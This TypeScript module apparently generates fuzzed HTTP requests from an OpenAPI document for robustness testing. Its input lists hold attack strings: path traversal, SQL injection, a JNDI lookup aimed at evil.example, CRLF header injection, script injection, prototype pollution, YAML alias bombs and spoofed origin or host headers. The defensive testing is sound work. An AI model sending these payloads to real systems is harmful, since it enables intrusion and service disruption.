/** Requests made from the OpenAPI document: some fit it, most break it somewhere. Seeded, so a run can be repeated. */
import * as fc from 'fast-check'
import { z } from 'zod'

const MOST_DEPTH = 12
const METHODS = ['GET', 'POST', 'PATCH', 'DELETE', 'PUT', 'HEAD', 'OPTIONS'] as const

type Method = (typeof METHODS)[number]

/** Who a request says that it comes from. */
export const callers = [
  'token',
  'viewer',
  'operator',
  'forged token',
  'forged cookie',
  'nobody',
] as const

export type GeneratedRequest = {
  /** As the document names it: `POST /api/v1/plans`. */
  operation: string
  method: Method
  url: string
  caller: (typeof callers)[number]
  headers: Record<string, string>
  payload: string | undefined
  /** The answer goes on for as long as the caller listens. */
  streams: boolean
}

const schemaSchema = z.looseObject({
  $ref: z.string().optional(),
  type: z.union([z.string(), z.array(z.string())]).optional(),
  enum: z.array(z.json()).optional(),
  const: z.json().optional(),
  get anyOf() {
    return z.array(schemaSchema).optional()
  },
  get oneOf() {
    return z.array(schemaSchema).optional()
  },
  get allOf() {
    return z.array(schemaSchema).optional()
  },
  get properties() {
    return z.record(z.string(), schemaSchema).optional()
  },
  get items() {
    return schemaSchema.optional()
  },
  required: z.array(z.string()).optional(),
  minimum: z.number().optional(),
  maximum: z.number().optional(),
  minLength: z.number().optional(),
  maxLength: z.number().optional(),
  pattern: z.string().optional(),
})

type Schema = z.infer<typeof schemaSchema>

const content = z.record(z.string(), z.looseObject({ schema: schemaSchema.optional() }))

const operationSchema = z.looseObject({
  parameters: z
    .array(z.looseObject({ name: z.string(), in: z.string(), schema: schemaSchema.optional() }))
    .optional(),
  requestBody: z.looseObject({ content }).optional(),
  responses: z.record(z.string(), z.looseObject({ content: content.optional() })),
})

const documentSchema = z.looseObject({
  paths: z.record(z.string(), z.record(z.string(), operationSchema)),
  components: z.looseObject({ schemas: z.record(z.string(), schemaSchema) }),
})

export type Hints = Record<string, readonly unknown[]>

/** Texts that programs stumble over. */
const oddText = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\0',
    'a\0b',
    '\uD800',
    'x\uDFFFy',
    '\uFEFF',
    '\u202Egnp.exe',
    'İıſK',
    '👩‍👩‍👧‍👦',
    'e\u0301'.repeat(40),
    '../../etc/passwd',
    '//evil.example/',
    '__proto__',
    'constructor',
    "'; drop table deployment; --",
    '${jndi:ldap://evil.example}',
    '{1..99999999}',
    '{01..10}{a..z}',
    '\r\nset-cookie: session=x',
    '<script>alert(1)</script>',
    '%00%ff%c0%af',
    'NaN',
    '-0',
    '1e999',
    '9'.repeat(400),
    'x'.repeat(70_000),
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
)

const oddValue = fc.oneof(
  { weight: 4, arbitrary: oddText },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      0,
      -1,
      1.5,
      2 ** 31,
      2 ** 53,
      1e308,
      [],
      {},
      [[]],
      [null],
      { '': 0 },
      Object.fromEntries([['constructor', { prototype: { admin: true } }]]),
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.integer({ min: 10, max: 3000 }).map(nested) },
)

function nested(depth: number): unknown {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = [value]
  return value
}

/** One part in `one` is odd. */
const mostly = (fitting: fc.Arbitrary<unknown>, one: number): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: one - 1, arbitrary: fitting }, { weight: 1, arbitrary: oddValue })

const textOf = (schema: Schema): fc.Arbitrary<string> => {
  const length = {
    minLength: Math.min(schema.minLength ?? 0, 100),
    maxLength: Math.min(schema.maxLength ?? 20, 60),
  }
  const plain = fc.string({ ...length, unit: 'grapheme-ascii' })
  if (schema.pattern === undefined) return plain
  try {
    return fc.stringMatching(new RegExp(schema.pattern), { size: 'small' })
  } catch {
    // fast-check does not write texts for every kind of pattern.
    return plain
  }
}

export function requestsOf(document: unknown, hints: Hints): fc.Arbitrary<GeneratedRequest> {
  const { paths, components } = documentSchema.parse(document)

  const valueOf = (schema: Schema, depth: number): fc.Arbitrary<unknown> => {
    if (depth > MOST_DEPTH) return fc.constant(null)
    const deeper = (inner: Schema) => valueOf(inner, depth + 1)
    if (schema.$ref !== undefined) {
      const target = components.schemas[schema.$ref.split('/').at(-1) ?? '']
      return target ? deeper(target) : fc.constant(null)
    }
    if (schema.const !== undefined) return fc.constant(schema.const)
    if (schema.enum !== undefined) return fc.constantFrom(...schema.enum)
    const choices = schema.anyOf ?? schema.oneOf
    if (choices !== undefined) return fc.oneof(...choices.map(deeper))
    if (schema.allOf !== undefined)
      return fc
        .tuple(...schema.allOf.map(deeper))
        .map((parts) => Object.assign({}, ...parts.filter((part) => typeof part === 'object')))
    const types = [schema.type ?? []].flat()
    return types.length > 1
      ? fc.oneof(...types.map((type) => plainValue({ ...schema, type }, depth)))
      : plainValue(schema, depth)
  }

  const plainValue = (schema: Schema, depth: number): fc.Arbitrary<unknown> => {
    switch (schema.type) {
      case 'string':
        return textOf(schema)
      case 'integer':
      case 'number': {
        const min = Math.ceil(Math.max(schema.minimum ?? 0, -1e9))
        return fc.integer({ min, max: Math.max(min, Math.min(schema.maximum ?? 1e9, 1e9)) })
      }
      case 'boolean':
        return fc.boolean()
      case 'array':
        return fc.array(mostly(valueOf(schema.items ?? {}, depth + 1), 30), { maxLength: 4 })
      case 'object':
        return objectOf(schema, depth)
      case undefined:
      default:
        return fc.constant(null)
    }
  }

  const objectOf = (schema: Schema, depth: number): fc.Arbitrary<unknown> => {
    const required = schema.required ?? []
    const fields = Object.entries(schema.properties ?? {}).map(([name, inner]) => {
      const value = named(name, valueOf(inner, depth + 1))
      const wanted = mostly(value, 25)
      return fc
        .option(wanted, { nil: undefined, freq: required.includes(name) ? 40 : 1 })
        .map((found): [string, unknown] => [name, found])
    })
    const extra = fc.oneof(
      { weight: 30, arbitrary: fc.constant([]) },
      { weight: 1, arbitrary: fc.tuple(oddText, oddValue).map((pair) => [pair]) },
    )
    return fc
      .tuple(extra, ...fields)
      .map(([more, ...pairs]) =>
        Object.fromEntries([...pairs.filter(([, value]) => value !== undefined), ...more]),
      )
  }

  /** Often a value that exists, so that requests get further than the door; always the canary for a secret. */
  const named = (name: string, value: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> => {
    const known = hints[name]
    if (known === undefined) return value
    const secret = /password|otp|secret/i.test(name)
    return fc.oneof(
      { weight: secret ? 20 : 3, arbitrary: fc.constantFrom(...known) },
      { weight: 1, arbitrary: value },
    )
  }

  const operations = Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) =>
      requestOf({ path, method: methodOf(method), operation }, { named, valueOf }),
    ),
  )
  return fc.oneof(...operations)
}

const methodOf = (name: string): Method =>
  METHODS.find((method) => method === name.toUpperCase()) ?? 'GET'

type Making = {
  named: (name: string, value: fc.Arbitrary<unknown>) => fc.Arbitrary<unknown>
  valueOf: (schema: Schema, depth: number) => fc.Arbitrary<unknown>
}

function requestOf(
  {
    path,
    method: own,
    operation,
  }: { path: string; method: Method; operation: z.infer<typeof operationSchema> },
  { named, valueOf }: Making,
): fc.Arbitrary<GeneratedRequest> {
  const parametersIn = (place: string) =>
    fc.tuple(
      ...(operation.parameters ?? [])
        .filter((parameter) => parameter.in === place)
        .map(({ name, schema }) =>
          fc
            .option(mostly(named(name, valueOf(schema ?? {}, 0)), 8), {
              nil: undefined,
              freq: place === 'path' ? 1000 : 2,
            })
            .map((value): [string, unknown] => [name, value]),
        ),
    )
  const body = operation.requestBody
    ? bodyOf(valueOf(Object.values(operation.requestBody.content)[0]?.schema ?? {}, 0))
    : fc.oneof({ weight: 6, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: rawBody })
  const streams = Object.values(operation.responses).some(
    (response) => response.content?.['text/event-stream'] !== undefined,
  )
  return fc
    .record({
      inPath: parametersIn('path'),
      inQuery: parametersIn('query'),
      inHeader: parametersIn('header'),
      payload: body,
      caller: fc.constantFrom('token', 'token', 'token', ...callers),
      contentType: fc.oneof(
        { weight: 12, arbitrary: fc.constant('application/json') },
        { weight: 1, arbitrary: fc.constantFrom(...contentTypes) },
      ),
      method: fc.oneof(
        { weight: 20, arbitrary: fc.constant(own) },
        { weight: 1, arbitrary: fc.constantFrom(...METHODS) },
      ),
      odd: fc.oneof(
        { weight: 6, arbitrary: fc.constant({}) },
        { weight: 1, arbitrary: fc.constantFrom(...oddHeaders) },
      ),
    })
    .map(({ inPath, inQuery, inHeader, payload, caller, contentType, method, odd }) => ({
      operation: `${own} ${path}`,
      method,
      url: urlOf(path, inPath, inQuery),
      caller,
      headers: {
        ...Object.fromEntries(
          inHeader
            .filter(([, value]) => value !== undefined)
            .map(([name, value]) => [name, headerText(asText(value))]),
        ),
        ...(payload !== undefined && { 'content-type': contentType }),
        ...odd,
      },
      payload,
      streams,
    }))
}

const contentTypes = [
  'text/plain',
  'application/xml',
  'application/yaml',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-16',
  'application/json, text/html',
  '',
  ';;;',
]

const oddHeaders: Record<string, string>[] = [
  { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
  { origin: 'null' },
  { 'x-forwarded-for': '999.1.1.1, x', 'x-forwarded-host': 'evil.example' },
  { host: 'evil.example:99999' },
  { accept: 'application/xml;q=x' },
  { 'accept-encoding': 'br;q=2, *;q=' },
  { range: 'bytes=9-1' },
  { 'last-event-id': '-5' },
  { 'idempotency-key': 'k'.repeat(5000) },
  { 'x-request-id': '{"level":60}' },
  { 'if-none-match': '*' },
]

/** What is no JSON at all, or JSON of a shape that nobody expects. */
const rawBody = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '{"a":1}}',
    'null',
    '"text"',
    '[]',
    '{"__proto__":{"x":1}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '[1e9999]',
    '\uFEFF{}',
    `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
    `{"name":"${'x'.repeat(400_000)}"}`,
    '*a: &a [*a]',
    'a: &a [x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\nd: [*c,*c,*c,*c]',
    '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
)

const bodyOf = (fitting: fc.Arbitrary<unknown>): fc.Arbitrary<string | undefined> =>
  fc.oneof(
    { weight: 20, arbitrary: fitting.map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: rawBody },
    { weight: 1, arbitrary: oddValue.map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  )

const asText = (value: unknown): string =>
  typeof value === 'string' ? value : (JSON.stringify(value) ?? '')

/** What a client can send in a header at all. */
const headerText = (text: string): string => text.replaceAll(/[^\x20-\x7E]/g, '?').slice(0, 8000)

/** Texts that are no Unicode go as bytes that are none. */
const encoded = (text: string): string =>
  text.isWellFormed() ? encodeURIComponent(text) : '%ED%A0%80'

type Pairs = [name: string, value: unknown][]

function urlOf(path: string, inPath: Pairs, inQuery: Pairs): string {
  const filled = inPath.reduce(
    (url, [name, value]) => url.replace(`{${name}}`, () => encoded(asText(value)).slice(0, 9000)),
    path,
  )
  const query = inQuery
    .filter(([, value]) => value !== undefined)
    .map(([name, value]) => `${encoded(name)}=${encoded(asText(value)).slice(0, 9000)}`)
  return query.length === 0 ? filled : `${filled}?${query.join('&')}`
}
